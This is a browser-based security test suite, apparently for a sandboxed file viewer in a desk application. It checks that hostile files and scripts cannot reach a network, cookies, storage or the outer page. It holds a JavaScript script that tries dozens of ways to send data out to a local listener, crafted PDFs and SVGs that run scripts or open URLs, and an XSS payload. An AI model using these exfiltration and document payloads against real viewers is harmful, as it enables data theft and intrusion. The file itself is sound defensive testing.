"""Hostile files and scripts that try to escape from the frame: nothing reaches the outside."""

import contextlib
import os
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page

from dropbox_app.desk.web.frame_page import FramePage
from tests.support.hostile_files import huge_png, pdf, small_png, svg
from tests.support.viewer_site import Ears, ViewerSite, worker_of

# Tries every way in which a script could get out, in a page or in a worker, and reports which
# "worked". It waits for all of them, so that silence afterwards is meaningful.
ATTACK = """
const at = "127.0.0.1:PORT", worked = [];
const late = () => new Promise((resolve) => setTimeout(() => resolve(false), 3000));
const attempt = async (name, how) => {
  try { if (await Promise.race([how(), late()]) !== false) worked.push(name); } catch {} };
const soon = (one, good, bad) => new Promise((resolve, reject) => {
  one[good] = resolve; one[bad] = reject; setTimeout(reject, 1500); });
const shows = (tag, name, more) => soon(Object.assign(document.head.appendChild(
  Object.assign(document.createElement(tag), more)), {}), "onload", "onerror");
const attacks = {
  eval: () => (0, eval)("1"),
  fetch: () => fetch(`http://${at}/`, { mode: "no-cors" }),
  own: () => fetch(location.origin + "/", { credentials: "include" }),
  desk: () => fetch("DESK/files/one", { credentials: "include", mode: "no-cors" }),
  xhr: () => { const x = new XMLHttpRequest(); x.open("GET", `http://${at}/`); x.send();
               return soon(x, "onload", "onerror"); },
  socket: () => soon(new WebSocket(`ws://${at}/`), "onopen", "onerror"),
  events: () => soon(new EventSource(`http://${at}/`), "onopen", "onerror"),
  transport: () => new WebTransport(`https://${at}/`).ready,
  imported: () => import(`http://${at}/x.mjs`),
  scripts: () => importScripts(`http://${at}/x.js`),
  beacon: () => { navigator.sendBeacon(`http://${at}/`, "x"); return false; },
  picture: () => { const i = new Image(); i.src = `http://${at}/x.png`;
                   return soon(i, "onload", "onerror"); },
  preconnect: () => shows("link", "", { rel: "preconnect", href: `http://${at}` }),
  prefetch: () => shows("link", "", { rel: "prefetch", href: `http://${at}/x` }),
  style: () => shows("link", "", { rel: "stylesheet", href: `http://${at}/x.css` }),
  nested: () => { const w = new Worker(URL.createObjectURL(new Blob(
    [`fetch("http://${at}/n")`]))); return new Promise((r) => setTimeout(() => r(false), 800)); },
  stun: async () => { const c = new RTCPeerConnection(
      { iceServers: [{ urls: `stun:${at}` }] });
    c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer());
    await new Promise((r) => setTimeout(r, 1500)); return false; },
  cookie: () => { if (!document.cookie) throw 0; },
  outer: () => parent.document.title,
  opener: () => { if (self !== top) top.location = `http://${at}/top`; return false; },
  window: () => { if (!window.open(`http://${at}/w`)) throw 0; },
  storage: () => localStorage.setItem("x", "y"),
  database: () => soon(indexedDB.open("x"), "onsuccess", "onerror"),
  caches: () => caches.open("x"),
};
const all = Promise.all(Object.entries(attacks).map(([n, how]) => attempt(n, how)));
"""
# In the worker it responds like a picture: the result is in the colours of one row of pixels.
IN_WORKER = (
    ATTACK
    + """
onmessage = async ({ data }) => {
  await all;
  if (data.bytes) return postMessage({ pages: 1 });
  const text = new TextEncoder().encode(JSON.stringify(worked));
  const pixels = new Uint8ClampedArray(4 * Math.ceil(text.length / 4));
  pixels.set(text);
  postMessage({ page: 1, width: pixels.length / 4, height: 1, pixels: pixels.buffer });
};
"""
)


@pytest.fixture
def ears() -> Iterator[Ears]:
    with Ears().listening() as made:
        yield made


def aimed(script: str, ears: Ears, site: ViewerSite) -> str:
    return script.replace("PORT", str(ears.port)).replace("DESK", site.url)


def test_attack_succeeds_on_an_unprotected_page(page: Page, site: ViewerSite, ears: Ears) -> None:
    """This proves that the attack works, without which the tests below would prove nothing."""
    script = aimed(ATTACK, ears, site) + "all.then(() => document.body.dataset.done = 'yes');"
    site.files["loose.html"] = f"<body><script>{script}</script>".encode()
    other = page.context.new_page()
    other.goto(f"{site.url}/loose")
    other.wait_for_selector("[data-done]", state="attached")
    other.close()
    assert {"tcp", "udp"} <= {*ears.heard}
    assert "/files/one" in site.asked


def test_compromised_worker_cannot_reach_anything_outside(
    page: Page, site: ViewerSite, ears: Ears
) -> None:
    """The worker has no network, cookie, outer page or storage, and can output only pixels."""
    site.frame = worker_of(aimed(IN_WORKER, ears, site))
    told = site.look(page, "image/png", small_png(), text=True)
    assert [one["text"] for one in told["seen"]] == ["[]"], told
    assert ears.heard == []
    assert site.asked.count("/files/one") == 1
    assert page.url == f"{site.url}/"


def test_injected_script_in_the_frame_does_not_run(
    page: Page, site: ViewerSite, ears: Ears
) -> None:
    """The policy allows one script by its hash; the page works without the other."""
    script = aimed(ATTACK, ears, site).encode()
    added = b"<script>" + script + b"</script><img src=x onerror='" + script[:200] + b"'>"
    site.frame = FramePage(site.frame.html + added, site.frame.policy)
    assert site.look(page, "image/png", small_png())["pages"] == 1
    assert ears.heard == []


def acting(address: str) -> dict[str, tuple[str, bytes]]:
    """Return files that contact a host or run a script if a viewer lets them."""
    script = f"fetch('{address}'); new Image().src='{address}'"
    act = b"<< /S /JavaScript /JS (app.launchURL\\('%s'\\); this.submitForm\\('%s'\\)) >>"
    act = act.replace(b"%s", address.encode())
    link = b"<< /S /URI /URI (%s) >>" % address.encode()
    opens = b"/OpenAction %s /AA << /WC %s >> " % (act, act)
    page = pdf(1).replace(b"/Contents", b"/AA << /O %s >> /Annots [<< /Type /Annot /Subtype /Link "
                          b"/Rect [0 0 400 400] /A %s >>] /Contents" % (link, link))  # fmt: skip
    remote = b"/Names << /Dests 9 0 R >> /OpenAction << /S /GoToR /F << /FS /URL /F (%s) >> >> "
    xfa = b"/AcroForm << /XFA (<xdp><script>%s</script></xdp>) >> " % script.encode()
    font = (b"/Type /Font /Subtype /Type1 /BaseFont /Foo /FontMatrix [1 2 3 4 5 (1\\); %s//)]"
            % script.encode())  # fmt: skip
    matrix = pdf(1).replace(b"/Contents", b"/Resources << /Font << /F << %s >> >> >> /Contents"
                            % font)  # fmt: skip
    html = f"<html><img src='{address}'><script>{script}</script>".encode()
    return {
        "a document with a script at its opening": ("application/pdf", pdf(1, opens)),
        "a document with links that open by themselves": ("application/pdf", page),
        "a document that goes to another": ("application/pdf",
                                            pdf(1, remote % address.encode())),
        "a form with a script": ("application/pdf", pdf(1, xfa)),
        "a font with a script": ("application/pdf", matrix),
        "a drawing with a script": ("image/png", svg(script)),
        "a web page called a photo": ("image/jpeg", html),
        "a web page called a document": ("application/pdf", html),
    }  # fmt: skip


def test_hostile_files_contact_no_host(page: Page, site: ViewerSite, ears: Ears) -> None:
    address = f"http://127.0.0.1:{ears.port}/"
    for name, (kind, content) in acting(address).items():
        told = site.look(page, kind, content)
        assert ("document" in name) <= (told.get("fault", "damaged") == "damaged"), name
    assert ears.heard == []


def test_file_bytes_are_not_served_to_a_page_image_or_script(page: Page, site: ViewerSite) -> None:
    """At the desk's own address, a foreign web page would have the desk's rights."""
    site.files["one"] = b"<html><body data-ran=1><script>document.cookie='x=y'</script>"
    other = page.context.new_page()
    answer = other.goto(f"{site.url}/files/one")
    assert answer is not None
    assert answer.status == 403
    assert other.locator("[data-ran]").count() == 0
    other.close()
    statuses = page.evaluate(
        """async () => {
          const made = (tag, more) => new Promise((resolve) => {
            const one = Object.assign(document.createElement(tag), more);
            one.onload = () => resolve(true); one.onerror = () => resolve(false);
            document.body.append(one); setTimeout(() => resolve(false), 3000); });
          const answer = await fetch("/files/one");
          const headers = Object.fromEntries(answer.headers);
          return [await made("img", { src: "/files/one" }),
                  await made("script", { src: "/files/one" }), answer.status, headers]; }"""
    )
    picture, script, status, headers = statuses
    assert (picture, script, status) == (False, False, 200)
    assert headers["content-type"] == "application/octet-stream"
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["content-disposition"] == "attachment"
    assert "sandbox" in headers["content-security-policy"]


# limits


def test_image_of_400_megapixels_is_refused_based_on_its_header(
    page: Page, site: ViewerSite
) -> None:
    """This half-megabyte file would make the browser use two gigabytes."""
    told = site.look(page, "image/png", huge_png(20_000))
    assert (told["fault"], told["width"], told["height"]) == ("too_large", 20_000, 20_000)


def test_document_page_is_never_drawn_larger_than_its_limit(page: Page, site: ViewerSite) -> None:
    vast = pdf(1).replace(b"/MediaBox [0 0 400 400]", b"/MediaBox [0 0 14400 14400]")
    (seen,) = site.look(page, "application/pdf", vast)["seen"]
    assert seen["reduced"]
    assert seen["width"] * seen["height"] <= 16_000_000


def test_endless_loop_is_stopped_while_the_page_stays_responsive(
    page: Page, site: ViewerSite
) -> None:
    """The outer page's clock keeps running, and no process is busy afterwards."""
    site.frame = worker_of("onmessage = () => { for (;;); };")
    page.evaluate(
        "() => { globalThis.ticks = 0; globalThis.clock = setInterval(() => ticks++, 50); }"
    )
    assert site.look(page, "image/png", small_png(), seconds=2)["fault"] == "too_slow"
    ticks = page.evaluate("() => { clearInterval(clock); return ticks; }")
    assert ticks >= 3  # of forty
    assert page.locator("iframe").count() == 0
    end = time.monotonic() + 30
    while _busiest() > 0.5:
        assert time.monotonic() < end, "a process of the browser is still busy"


def _busiest() -> float:
    """Return the largest share of a core used by a process below this one in half a second."""
    before = _processor_seconds()
    time.sleep(0.5)
    after = _processor_seconds()
    return max(((after[pid] - before[pid]) / 0.5 for pid in {*before} & {*after}), default=0.0)


def _processor_seconds() -> dict[int, float]:
    """Return the CPU time of each process below this one."""
    parents, used = {}, {}
    for path in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError):
            fields = path.read_text().rpartition(")")[2].split()
            pid = int(path.parent.name)
            parents[pid] = int(fields[1])
            used[pid] = (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def below(pid: int) -> bool:
        while pid in parents:
            pid = parents[pid]
            if pid == os.getpid():
                return True
        return False

    return {pid: seconds for pid, seconds in used.items() if below(pid)}


# The worker may have been taken over: it could send each of these results instead of a page.
ANSWERS = {
    "nothing": "undefined",
    "a word": "'<b>ready</b>'",
    "no page": "{ pages: 0 }",
    "half a page": "{ pages: 1.5 }",
    "too many pages": "{ pages: 1e9 }",
    "a fault that nobody knows": "{ fault: '<img src=x onerror=alert(1)>', width: 'x' }",
    "a picture before it was asked": "{ page: 1, width: 1, height: 1, pixels: new ArrayBuffer(4) }",
}
PAGES = {
    "fewer pixels than it says": "{ width: 100, height: 100, pixels: new ArrayBuffer(4) }",
    "more pixels than it says": "{ width: 1, height: 1, pixels: new ArrayBuffer(400) }",
    "no size": "{ pixels: new ArrayBuffer(4) }",
    "a negative size": "{ width: -1, height: -1, pixels: new ArrayBuffer(4) }",
    "a size that overflows": "{ width: 2 ** 31, height: 2, pixels: new ArrayBuffer(4) }",
    "too many pixels": "{ width: 4001, height: 4000, pixels: new ArrayBuffer(64016000) }",
    "a list in place of pixels": "{ width: 1, height: 1, pixels: [0, 0, 0, 0] }",
    "a size that is a word": "{ width: '1', height: 1, pixels: new ArrayBuffer(4) }",
    "a buffer that can grow":
        "{ width: 1, height: 1, pixels: new ArrayBuffer(4, { maxByteLength: 999 }) }",
}  # fmt: skip


def test_malformed_result_is_rejected(page: Page, site: ViewerSite) -> None:
    cases = {**{name: (answer, "{}") for name, answer in ANSWERS.items()},
             **{name: ("{ pages: 1 }", answer) for name, answer in PAGES.items()}}  # fmt: skip
    for name, (first, then) in cases.items():
        script = f"onmessage = ({{data}}) => postMessage(data.bytes ? ({first}) : ({then}));"
        site.frame = worker_of(script)
        told = site.look(page, "image/png", small_png(), seconds=20)
        assert (told["fault"], told["seen"], told["width"]) == ("ours", [], 0), name
